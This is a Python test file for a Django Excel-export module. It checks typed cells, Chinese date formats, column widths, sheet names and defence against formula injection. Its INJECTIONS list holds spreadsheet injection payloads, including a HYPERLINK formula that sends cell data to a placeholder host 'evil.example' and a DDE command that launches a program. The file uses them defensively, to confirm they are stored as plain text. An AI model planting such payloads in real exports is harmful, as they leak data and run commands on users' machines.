"""core.xlsx, the one Excel writer: typed cells and formats, sheet names, widths, title rows, frozen
header, and no formula ever written from data (formula injection)."""

import datetime
from decimal import Decimal

import pytest
from django.utils import timezone, translation

from core import xlsx

from .. import export_checks

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _book(rows, columns, **sheet):
    sheet.setdefault("name", "测试表")
    sheet.setdefault("title", "测试标题")
    return export_checks.read(xlsx.workbook_bytes([xlsx.Sheet(columns=columns, rows=rows, **sheet)]))


def test_each_kind_is_a_real_typed_cell_with_its_number_format():
    when = timezone.make_aware(datetime.datetime(2026, 3, 5, 9, 30))  # Asia/Shanghai
    columns = [
        xlsx.Column("名称", lambda r: r["name"]),
        xlsx.Column("年份", lambda r: r["year"], kind=xlsx.INT),
        xlsx.Column("投资（万元）", lambda r: r["money"], kind=xlsx.DECIMAL),
        xlsx.Column("强度", lambda r: r["intensity"], kind=xlsx.DECIMAL, number_format=xlsx.decimals(4)),
        xlsx.Column("占比", lambda r: r["share"], kind=xlsx.PERCENT),
        xlsx.Column("日期", lambda r: r["day"], kind=xlsx.DATE),
        xlsx.Column("时间", lambda r: r["at"], kind=xlsx.DATETIME),
    ]
    row = {
        "name": "石泉县人民政府",
        "year": 2023,
        "money": Decimal("12345678.9"),
        "intensity": Decimal("1.23456"),
        "share": Decimal("0.1875"),
        "day": datetime.date(2026, 12, 31),
        "at": when,
    }
    blank = dict.fromkeys(row)
    table = _book([row, blank], columns)["测试表"]
    cells = dict(zip(table.header, table.cells[0], strict=True))

    assert cells["名称"].data_type == "s"
    assert (cells["年份"].value, cells["年份"].number_format) == (2023, "0")
    assert (cells["投资（万元）"].value, cells["投资（万元）"].number_format) == (12345678.9, "#,##0.00")
    assert (cells["强度"].value, cells["强度"].number_format) == (1.23456, "#,##0.0000")
    assert (cells["占比"].value, cells["占比"].number_format) == (0.1875, "0.00%")
    assert cells["日期"].value == datetime.datetime(2026, 12, 31)  # Excel stores dates as date-times
    assert cells["日期"].number_format == 'yyyy"年"m"月"d"日"'
    assert cells["时间"].value == datetime.datetime(2026, 3, 5, 9, 30)  # local time, no time zone
    assert cells["时间"].number_format == 'yyyy"年"m"月"d"日" hh:mm'
    assert all(c.value is None for c in table.cells[1][1:])  # blanks stay blank, not "" or "None"
    export_checks.assert_well_formed(table, sheet="测试表", title_contains="测试标题")


def test_dates_follow_the_active_language():
    columns = [xlsx.Column("Date", lambda r: r, kind=xlsx.DATE)]
    with translation.override("en"):
        as_of = timezone.make_aware(datetime.datetime(2026, 12, 1, 10, 5))
        table = _book([datetime.date(2026, 12, 31)], columns, as_of=as_of)["测试表"]
    assert table.cells[0][1].number_format == "yyyy-mm-dd"
    assert "Dec. 1, 2026" in table.scope  # the as-of date in the English form, not 2026年12月1日


def test_title_and_scope_rows_and_the_frozen_header():
    columns = [xlsx.Column("申报单位", lambda r: r), xlsx.Column("备注", lambda r: "")]
    as_of = timezone.make_aware(datetime.datetime(2026, 12, 1, 10, 5))
    table = _book(["甲", "乙", "丙"], columns, scope="范围：全省", as_of=as_of)["测试表"]
    assert table.title == "测试标题"
    assert table.scope == "范围：全省；数据截至2026年12月1日 10:05"
    assert table.header == ["序号", "申报单位", "备注"]
    assert table.column("序号") == [1, 2, 3]
    ws = table.sheet
    assert ws.freeze_panes == "A4"
    assert "A1:C1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws.auto_filter.ref == "A3:C6"
    assert ws.print_title_rows == "$3:$3"
    export_checks.assert_well_formed(table, sheet="测试表", title_contains="测试标题")


def test_widths_count_a_cjk_character_double():
    name = "陕西省西咸新区沣东新城管理委员会"  # 16 characters, 32 columns wide
    columns = [xlsx.Column("单位", lambda r: r), xlsx.Column("code", lambda r: "AB")]
    table = _book([name], columns)["测试表"]
    widths = table.sheet.column_dimensions
    assert xlsx.display_width(name) == 32
    assert widths["B"].width >= 32
    assert widths["C"].width >= 8  # never the 2–6 characters the tablib export had
    export_checks.assert_fits(table, "单位")


def test_a_long_text_column_wraps_at_its_fixed_width():
    columns = [xlsx.Column("评语", lambda r: r, width=40)]
    table = _book(["很长的评语" * 40], columns)["测试表"]
    assert table.sheet.column_dimensions["B"].width == 42
    assert table.cells[0][1].alignment.wrap_text


@pytest.mark.parametrize("value", INJECTIONS)
def test_data_that_looks_like_a_formula_is_written_as_text(value):
    columns = [xlsx.Column("单位", lambda r: r)]
    table = _book([value], columns, title=value, scope=value)["测试表"]
    cell = table.cells[0][1]
    # A lone CR is read back as LF by the standard-library XML parser, kept by lxml (present since pyHanko).
    assert cell.value in (value, value.replace("\r", "\n"))
    assert cell.data_type == "s" and cell.quotePrefix
    assert table.sheet["A1"].data_type == "s"  # the title row is data too
    export_checks.assert_no_formulas(table.sheet)


def test_control_characters_a_workbook_cannot_hold_are_dropped():
    table = _book(["甲\x00乙\x07丙"], [xlsx.Column("单位", lambda r: r)])["测试表"]
    assert table.cells[0][1].value == "甲乙丙"


def test_sheet_names_are_valid_and_unique():
    assert xlsx.sheet_name("2025年[第一批]: 评分/排名*?\\汇总") == "2025年第一批 评分排名汇总"
    long = "陕西省低碳近零碳试点示范建设二〇二五年第一批申报书列表及关键指标汇总"
    assert len(xlsx.sheet_name(long)) == 31
    assert xlsx.sheet_name("名单", ["名单"]) == "名单(2)"
    sheets = [xlsx.Sheet(name="名单", title="t", columns=[], rows=[]) for _ in range(2)]
    book = export_checks.read(xlsx.workbook_bytes(sheets))
    assert list(book) == ["名单", "名单(2)"]


def test_an_empty_sheet_still_has_its_title_header_and_frozen_pane():
    table = _book([], [xlsx.Column("姓名", lambda r: r)], dated=False)["测试表"]
    assert table.header == ["序号", "姓名"] and table.cells == []
    assert table.scope is None
    export_checks.assert_well_formed(table, sheet="测试表", title_contains="测试标题", dated=False)


def test_a_wrong_value_for_a_date_column_fails_loudly():
    with pytest.raises(TypeError):
        xlsx.workbook_bytes(
            [xlsx.Sheet(name="x", title="x", columns=[xlsx.Column("日期", str, kind=xlsx.DATE)], rows=["x"])]
        )
